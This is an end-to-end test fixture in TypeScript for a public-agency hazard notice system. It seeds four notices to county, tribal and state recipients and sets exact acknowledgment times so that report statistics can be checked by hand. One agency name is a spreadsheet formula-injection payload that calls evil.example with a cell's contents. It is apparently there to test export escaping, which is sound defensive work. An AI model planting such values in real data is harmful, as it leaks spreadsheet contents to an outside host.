/**
 * The reports' hand-computed fixture (test/e2e/reports.test.ts): four notices published through
 * the API to four recipient agencies (two counties, a tribe, a state), then every record's times
 * set to exact values in the database so each median, p90, count and overdue line can be worked
 * out by hand.
 */
import { apiClient, createAgency, createTopics, eventually, TestAgency } from './fixtures';
import { startStack, Stack } from './stack';

const T = (iso: string) => new Date(iso);
const plus = (at: Date, seconds: number) => new Date(at.getTime() + seconds * 1000);
const H = 3600;
const D = 86400;

// Publication times. N1 sits exactly on the range's lower bound, N4 exactly on its (excluded) upper bound.
const P1 = T('2026-03-01T00:00:00.000Z');
const P2 = T('2026-03-10T12:00:00.000Z');
const P3 = T('2026-03-31T23:00:00.000Z');
const P4 = T('2026-04-01T00:00:00.000Z');
const FAR = T('2099-06-01T12:00:00.000Z');

export interface ReportsFixture {
  stack: Stack;
  call: ReturnType<typeof apiClient>;
  issuer: TestAgency;
  partnership: TestAgency;
  cook: TestAgency;
  evil: TestAgency;
  tribe: TestAgency;
  indiana: TestAgency;
  n: Record<'N1' | 'N2' | 'N3' | 'N4', { id: string; reference: string }>;
}

/** A stack with the fixture in place; the stack is closed again if the fixture cannot be built. */
export async function startReportsFixture(): Promise<ReportsFixture> {
  const stack = await startStack();
  try {
    return await seed(stack);
  } catch (err) {
    await stack.close();
    throw err;
  }
}

async function seed(stack: Stack): Promise<ReportsFixture> {
  const call = apiClient(stack.url);
  const n = {} as ReportsFixture['n'];
  await createTopics(stack.db, ['safe-sleep']);
  const issuer = await createAgency(stack.db, { name: 'Illinois DCFS', type: 'state', code: '17', timeZone: 'America/Chicago' });
  const partnership = await createAgency(stack.db, { name: 'Partnership office', type: 'federal', code: 'US', roles: ['admin', 'supervisor'], timeZone: 'America/New_York' });
  const cook = await createAgency(stack.db, { name: 'Cook County', type: 'county', code: '17031', timeZone: 'America/Chicago' });
  const evil = await createAgency(stack.db, { name: '=HYPERLINK("http://evil.example/?x="&A1,"Adams County")', type: 'county', code: '08001', timeZone: 'America/Denver' });
  const tribe = await createAgency(stack.db, { name: 'Navajo Nation Division of Family Services', type: 'tribal', code: 'Navajo Nation', timeZone: 'America/Phoenix' });
  const indiana = await createAgency(stack.db, { name: 'Indiana DCS', type: 'state', code: '18', timeZone: 'America/New_York' });
  const f: ReportsFixture = { stack, call, issuer, partnership, cook, evil, tribe, indiana, n };

  n.N1 = await publish(f, 'Inclined sleepers, "rock and play" models: remove now', 'alert');
  n.N2 = await publish(f, 'Fentanyl exposure in toddlers', 'alert');
  n.N3 = await publish(f, 'Screening practice advisory', 'advisory');
  n.N4 = await publish(f, 'Window blind cords', 'alert');

  // One acknowledgment through the API, the real path; its time is then set like the others.
  const acked = await call('POST', `/api/v1/notices/${n.N1.id}/acknowledgments`, { key: cook.keys.supervisor, body: { name: 'Casey Cook' } });
  expect(acked.status).toBe(200);
  expect(acked.body.status).toBe('acknowledged');

  for (const [key, at] of Object.entries({ N1: P1, N2: P2, N3: P3, N4: P4 })) {
    await stack.db.query(`UPDATE notices SET published_at = $2 WHERE id = $1`, [n[key as keyof typeof n].id, at]);
  }
  // N1 (alert), due P1+24h, actions due P1+7d.
  await setRecord(stack, n.N1, cook, { status: 'action_completed', dueAt: plus(P1, D), acknowledgedAt: plus(P1, 600), actionsDueAt: plus(P1, 7 * D), actionsCompletedAt: plus(P1, 2 * H) });
  await setRecord(stack, n.N1, evil, { status: 'acknowledged', dueAt: plus(P1, D), acknowledgedAt: plus(P1, H), actionsDueAt: plus(P1, 7 * D) });
  await setRecord(stack, n.N1, tribe, { status: 'pending', dueAt: plus(P1, D), actionsDueAt: plus(P1, 7 * D) });
  await setRecord(stack, n.N1, indiana, {
    status: 'action_not_required', dueAt: plus(P1, D), acknowledgedAt: plus(P1, 90000), late: true,
    actionsDueAt: plus(P1, 7 * D), actionsCompletedAt: plus(P1, 100000),
  });
  // N2 (alert).
  await setRecord(stack, n.N2, cook, { status: 'acknowledged', dueAt: plus(P2, D), acknowledgedAt: plus(P2, 1200), actionsDueAt: FAR });
  await setRecord(stack, n.N2, evil, { status: 'pending', dueAt: FAR, actionsDueAt: FAR });
  await setRecord(stack, n.N2, tribe, {
    status: 'action_completed', dueAt: plus(P2, D), acknowledgedAt: plus(P2, 2 * D), late: true,
    actionsDueAt: plus(P2, 2 * D), actionsCompletedAt: plus(P2, 3 * D), actionsLate: true,
  });
  await setRecord(stack, n.N2, indiana, { status: 'pending', dueAt: plus(P2, D), actionsDueAt: plus(P2, 7 * D) });
  // N3 (advisory: no actions).
  await setRecord(stack, n.N3, cook, { status: 'acknowledged', dueAt: plus(P3, D), acknowledgedAt: plus(P3, 300) });
  await setRecord(stack, n.N3, evil, { status: 'superseded', dueAt: plus(P3, D), closedAt: plus(P3, H) });
  await setRecord(stack, n.N3, tribe, { status: 'acknowledged', dueAt: plus(P3, D), acknowledgedAt: plus(P3, 900) });
  await setRecord(stack, n.N3, indiana, { status: 'pending', dueAt: plus(P3, D) });
  // N4 (alert), outside the response-times range.
  await setRecord(stack, n.N4, cook, { status: 'pending', dueAt: plus(P4, D), actionsDueAt: FAR });
  await setRecord(stack, n.N4, evil, { status: 'acknowledged', dueAt: plus(P4, D), acknowledgedAt: plus(P4, 60), actionsDueAt: FAR });
  await setRecord(stack, n.N4, tribe, { status: 'acknowledged', dueAt: plus(P4, D), acknowledgedAt: plus(P4, 120), actionsDueAt: FAR });
  await setRecord(stack, n.N4, indiana, { status: 'acknowledged', dueAt: plus(P4, D), acknowledgedAt: plus(P4, 180), actionsDueAt: FAR });
  return f;
}

async function publish(f: Pick<ReportsFixture, 'stack' | 'call' | 'issuer'>, title: string, category: 'alert' | 'advisory') {
  const draft = await f.call('POST', '/api/v1/notices', {
    key: f.issuer.keys.author,
    body: {
      title,
      summary: 'A summary of the hazard.',
      body: 'Details.',
      category,
      severity: 'critical',
      topics: ['safe-sleep'],
      // The four recipients by jurisdiction code: not the issuer, not the partnership's own agency.
      targetJurisdictions: ['17031', '08001', 'Navajo Nation', '18'],
      ...(category === 'alert' ? { requiredActions: ['Check every home'] } : {}),
    },
  });
  expect(draft.status).toBe(201);
  expect((await f.call('POST', `/api/v1/notices/${draft.body.id}/submit`, { key: f.issuer.keys.author })).status).toBe(200);
  const approved = await f.call('POST', `/api/v1/notices/${draft.body.id}/approve`, { key: f.issuer.keys.approver, body: { contentHash: draft.body.contentHash } });
  expect(approved.status).toBe(200);
  const id = draft.body.id;
  // Fan-out done (one record per recipient) and every mandatory email delivered, so nothing else moves.
  await eventually(async () => {
    const [r] = await f.stack.db.query(
      `SELECT (SELECT count(*)::int FROM acknowledgments WHERE notice_id = $1) AS acks,
              (SELECT count(*)::int FROM deliveries WHERE notice_id = $1 AND status = 'delivered') AS delivered`,
      [id],
    );
    return r.acks === 4 && r.delivered === 4;
  }, 20000, `fan-out of ${title}`);
  return { id, reference: approved.body.reference as string };
}

/** Puts a record in an exact state (the reminder clock stopped so nothing else touches it). */
async function setRecord(
  stack: Stack,
  notice: { id: string },
  agency: TestAgency,
  r: {
    status: string;
    dueAt: Date;
    acknowledgedAt?: Date;
    late?: boolean;
    actionsDueAt?: Date | null;
    actionsCompletedAt?: Date;
    actionsLate?: boolean;
    closedAt?: Date;
  },
) {
  const rows = await stack.db.query(
    `UPDATE acknowledgments SET status = $3, due_at = $4, acknowledged_at = $5, late = $6, actions_due_at = $7,
            actions_completed_at = $8, actions_late = $9, closed_at = $10,
            channel = CASE WHEN $5::timestamptz IS NULL THEN channel ELSE COALESCE(channel, 'api') END,
            acknowledged_by_name = CASE WHEN $5::timestamptz IS NULL THEN acknowledged_by_name ELSE COALESCE(acknowledged_by_name, 'Fixture') END,
            next_reminder_at = NULL
      WHERE notice_id = $1 AND agency_id = $2 RETURNING id`,
    [
      notice.id,
      agency.id,
      r.status,
      r.dueAt,
      r.acknowledgedAt ?? null,
      r.acknowledgedAt ? (r.late ?? false) : null,
      r.actionsDueAt ?? null,
      r.actionsCompletedAt ?? null,
      r.actionsCompletedAt ? (r.actionsLate ?? false) : null,
      r.closedAt ?? null,
    ],
  );
  expect(rows[0]).toHaveLength(1);
}
